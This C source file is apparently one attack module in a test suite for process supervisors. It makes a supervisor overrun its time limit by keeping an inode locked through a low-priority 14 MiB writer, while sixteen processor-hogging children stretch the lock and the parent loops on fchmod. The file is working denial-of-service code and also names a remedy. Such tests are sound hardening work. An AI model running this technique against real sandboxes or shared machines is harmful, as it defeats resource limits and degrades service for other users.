// SPDX-License-Identifier: MIT
/*
 * held-inode.c - the supervisor, whose clock it is, waits for a lock of the program's.
 *
 * Goal:  the worker waits longer than the exercise allows.
 * Means: a child of the least priority writes 14 MiB at once: the inode is locked meanwhile, and
 *        children that hog the processors make that last. Who changes the file's mode in the
 *        program's place waits for the lock, in the kernel, and looks at no clock.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { HOGS = 16, WRITERS = 1, SIZE = 14 << 20, SECONDS = 9 };

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static enum claim run(const struct brief *b)
{
	double end = now() + SECONDS;
	const char *dir = getenv("TMPDIR");
	char *buf = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int fd;

	if (buf == MAP_FAILED || chdir(dir ? dir : "/tmp"))
		return failed("mmap");
	memset(buf, 'x', SIZE);
	fd = open("held", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return failed("open");
	attempting(b);
	if (fork() == 0) {
		sched_setscheduler(0, SCHED_IDLE, &(struct sched_param){ 0 });
		while (now() < end)
			if (pwrite(fd, buf, SIZE, 0) < 0)
				break;
		_exit(0);
	}
	usleep(20000);
	for (int i = 0; i < HOGS; i++) {
		pid_t child = fork();

		if (child < 0)
			return denied("fork");
		if (child == 0) {
			while (now() < end)
				continue;
			_exit(0);
		}
	}
	while (now() < end) {
		fchmod(fd, 0600);
		usleep(1000);
	}
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the worker waits longer than allowed",
	.means = "fchmod(2) of a file that a SCHED_IDLE child writes to, while others hog the "
		 "processors",
	.oracle = "usage:time",
	.attack_id = "T1499.003, CWE-400, CWE-833",
	.remedy = "a clock in a process or thread that waits for nothing of the program's",
	.refs = (const char *const[]){ "sched(7)", NULL },
	.run = run,
};
